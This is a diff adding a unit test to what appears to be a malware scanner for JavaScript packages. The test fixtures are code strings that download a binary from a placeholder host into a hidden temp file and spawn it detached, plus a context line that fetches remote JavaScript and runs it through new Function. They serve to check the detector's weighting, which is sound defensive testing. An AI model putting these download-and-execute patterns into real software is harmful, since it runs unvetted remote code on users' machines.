@@ -245,6 +245,16 @@ module.exports = {};
     expect(encoded.findings.find((f) => f.messageId === 'dropper')?.weight).toBeLessThan(70);
   });
 
+  it('a downloaded program started detached weighs like a dropper; a binary installer that waits for what it fetched keeps its low weight', () => {
+    const program = (options: string) => `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\nconst dst = path.join(os.tmpdir(), '.agent');\nhttps.get('https://cdn.tools.example.org/d/' + process.platform, (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => { fs.writeFileSync(dst, Buffer.concat(chunks), { mode: 0o755 }); spawn(dst, ['--version'], ${options}); });\n});\n`;
+    const weight = (r: ReturnType<typeof scan>) => r.findings.find((f) => f.messageId === 'download')?.weight ?? 0;
+    const detached = scan({ 'index.js': program("{ detached: true, stdio: 'ignore' }") });
+    const waits = scan({ 'index.js': program("{ stdio: 'inherit' }") });
+    expect(detached.findings.find((f) => f.messageId === 'download')?.data?.sink).toBe('child_process.spawn() (detached)');
+    expect(weight(detached)).toBeGreaterThanOrEqual(40);
+    expect(weight(waits)).toBeLessThan(30);
+  });
+
   it('follows promise chains and files written from a download, then required', () => {
     const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
     expect(chained.ids).toContain('remote-code/download');
